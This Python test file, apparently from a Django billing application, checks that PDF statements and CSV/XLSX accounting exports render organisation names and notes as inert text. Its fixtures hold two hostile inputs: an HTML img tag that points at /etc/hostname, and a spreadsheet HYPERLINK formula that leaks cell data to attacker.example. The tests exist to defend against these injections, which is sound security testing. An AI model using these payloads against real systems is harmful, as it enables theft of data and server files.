"""Statements and the accounting export hold names that members typed: nothing in them runs."""

import csv
import io
from datetime import date

import pytest
import time_machine
from django.urls import reverse
from openpyxl import load_workbook

from biocluster.directory.tests.factories import OrganisationFactory
from biocluster.platforms.services.billing import issue_statement
from biocluster.platforms.tests.factories import UsageRecordFactory

MARKUP = "Evil <b>Bio & <img src='/etc/hostname' width='40' height='40'/> Co"
FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'


@pytest.fixture
def statement_of(manager, platform):
    def issue(name):
        organisation = OrganisationFactory(name=name)
        UsageRecordFactory(platform=platform, organisation=organisation, day=date(2026, 11, 10), note=FORMULA)
        with time_machine.travel(date(2026, 12, 5), tick=False):
            return issue_statement(
                actor=manager, platform=platform, organisation=organisation, month=date(2026, 11, 1)
            )

    return issue


def test_the_statement_pdf_shows_a_name_with_markup_as_written(client, manager, statement_of):
    statement = statement_of(MARKUP)
    client.force_login(manager)
    response = client.get(reverse("platforms:statement_pdf", args=[statement.pk]))
    assert response.status_code == 200
    assert response.content[:4] == b"%PDF"
    assert b"/Subtype /Image" not in response.content  # no file of the server embedded


def test_statement_and_accounting_exports_never_hold_a_formula(client, manager, statement_of, platform):
    statement = statement_of(FORMULA)
    client.force_login(manager)
    statement_csv = client.get(reverse("platforms:statement_csv", args=[statement.pk])).content.decode(
        "utf-8-sig"
    )
    accounting = client.get(
        reverse("platforms:accounting_export", args=[platform.pk]), {"month": "2026-11"}
    ).content.decode("utf-8-sig")
    for text, delimiter in ((statement_csv, ","), (accounting, ";")):
        cells = [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]
        assert "'" + FORMULA in cells
        assert not any(cell.startswith("=") for cell in cells)

    workbook = load_workbook(
        io.BytesIO(client.get(reverse("platforms:statement_xlsx", args=[statement.pk])).content)
    )
    cells = [cell for row in workbook.active.iter_rows() for cell in row if cell.value is not None]
    assert any(FORMULA in str(cell.value) for cell in cells)
    assert all(cell.data_type != "f" for cell in cells)
